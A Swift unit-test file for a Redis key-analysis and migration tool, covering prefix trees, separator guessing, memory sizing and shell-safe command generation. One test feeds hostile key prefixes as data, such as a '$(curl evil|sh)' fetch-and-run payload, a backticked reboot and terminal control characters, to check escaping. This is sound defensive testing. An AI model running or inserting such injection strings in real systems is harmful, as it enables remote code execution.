// The parts of analyze: the tree of prefixes within its bounds, the guess of separators, the model of memory
// on bytes that mean no good.

import RDBParser
import Testing

@testable import Migr8Sync

@Suite("Analyzing keys")
struct AnalysisTests {
  /// What a server says of itself may be anything.
  @Test func scalingEndsAtTheLargestNumber() {
    #expect(UInt64(3).scaled(1.5) == 5)
    #expect(UInt64(3).scaled(1e300) == .max)
    #expect(UInt64.max.scaled(1) == .max)
    #expect(UInt64(0).scaled(.infinity) == 0)
  }

  private func tree(_ keys: [String], separators: String = ":") -> PrefixTree {
    var tree = PrefixTree(separators: Array(separators.utf8))
    for key in keys { tree.add(Array(key.utf8).span, PrefixTally(keys: 1, bytes: 1, memory: 10)) }
    return tree
  }

  private func counts(_ branch: PrefixTree.Branch) -> [String: UInt64] {
    var counts = [String(decoding: branch.prefix, as: UTF8.self): branch.tally.keys]
    for child in branch.children { counts.merge(self.counts(child)) { $0 + $1 } }
    return counts
  }

  @Test func everyPrefixCountsWhatIsBelowIt() {
    let tree = tree(["a:b:c", "a:b:d", "a:x", "z", "", ":", "a:"])
    #expect(
      counts(tree.branches(limit: 100)) == ["": 7, "a:": 4, "a:b:": 2, ":": 1])
  }

  @Test func idsAreNoPrefixes() {
    let tree = tree((0..<5000).flatMap { ["user:\($0):name", "user:\($0):mail"] })
    #expect(counts(tree.branches(limit: 1000)) == ["": 10_000, "user:": 10_000])
  }

  @Test func manyPrefixesStayWithinTheBudget() {
    var tree = PrefixTree(separators: Array(":".utf8))
    // Groups of ids with enough keys each to be kept: more of them than there may be nodes.
    for round in 0..<9 {
      for group in 0..<400 {
        for id in 0..<200 {
          let key = "g\(group):i\(id):k\(round)"
          tree.add(
            Array(key.utf8).span, PrefixTally(keys: 1, bytes: 1, memory: group == 7 ? 900 : 10))
        }
      }
    }
    #expect(tree.nodes.count <= PrefixTree.nodesMax)
    let counts = counts(tree.branches(limit: 100_000))
    #expect(counts[""] == 400 * 200 * 9)
    #expect(counts["g7:"] == 200 * 9)
  }

  @Test func theLargestAreShown() {
    let tree = tree((0..<300).flatMap { group in (0...group).map { "g\(group):\($0)" } })
    let root = tree.branches(limit: 3)
    #expect(
      root.children.map { String(decoding: $0.prefix, as: UTF8.self) } == [
        "g299:", "g298:", "g297:",
      ])
  }

  @Test(arguments: [
    (["a:b", "c:d.e", "f-g:h"], ":"), (["a/b", "a:b"], ":/"), (["a.b.c", "a.b"], "."),
    (["plain"], ""),
    (["a-b_c"], "-_"), ([], ""),
  ])
  func separatorsAreGuessed(keys: [String], separators: String) {
    var guess = SeparatorGuess()
    for key in keys { guess.add(Array(key.utf8).span) }
    #expect(guess.separators == Array(separators.utf8))
  }

  @Test func commandsAreFitForAShell() {
    func command(_ prefix: String) -> String? {
      Analysis.command(for: Array(prefix.utf8), at: "redis://old:6379")
    }
    #expect(command("user:")?.hasSuffix(" -p user:") == true)
    #expect(command("a b$'")?.hasSuffix(" -p 'a b$'\\'''") == true)
    #expect(command("--once:")?.hasSuffix(" --prefix=--once:") == true)
    #expect(
      Analysis.command(for: [97], at: "unix:///a;b")?.contains(" -s 'unix:///a;b' ") == true)
  }

  /// Where no command line can name a prefix none is shown: in its place stands the line of a file of options,
  /// in which there is nothing for a shell, either.
  @Test(arguments: [
    [0xFF] + Array("$(curl evil|sh):".utf8), Array("a\n`reboot`:".utf8),
    Array("\u{9B}2J!!:".utf8), Array("\u{202E}$(x)\":".utf8), Array("\u{FFFD}\\$x:".utf8),
  ])
  func noCommandNamesWhatIsNoText(prefix: [UInt8]) throws {
    let line = Analysis.configLine(for: prefix)
    #expect(try ConfigWords.split(Array(line.utf8)[...]) == [Array("prefix".utf8), prefix])
    #expect(!line.contains { "$`!;|&()<>'".contains($0) || !$0.isASCII || $0.isNewline })
    #expect(Analysis.command(for: prefix, at: "redis://old:6379") == nil)
  }

  @Test func anyBytesHaveASize() {
    let seed = UInt64.random(in: 0...UInt64.max)
    print("the seed of the values: \(seed)")
    var random = SeededGenerator(seed: seed)
    for _ in 0..<20_000 {
      let type = RDBType(
        rawValue: UInt8.random(in: 0...30, using: &random),
        family: Bool.random(using: &random) ? .redis : .valkey)
      let value = (0..<Int.random(in: 0..<24, using: &random)).map { _ in
        Bool.random(using: &random) ? UInt8.random(in: 0...255, using: &random) : 0xC3
      }
      _ = MemoryModel.bytes(type, keyLength: 3, value: value.span, total: UInt64(value.count))
    }
  }

  @Test(arguments: [
    (1, 8), (9, 16), (129, 160), (160, 160), (161, 192), (1025, 1280), (5000, 5120),
  ])
  func allocationsHaveTheSizesOfTheAllocator(bytes: Int, size: Int) {
    #expect(MemoryModel.allocated(UInt64(bytes)) == UInt64(size))
  }
}
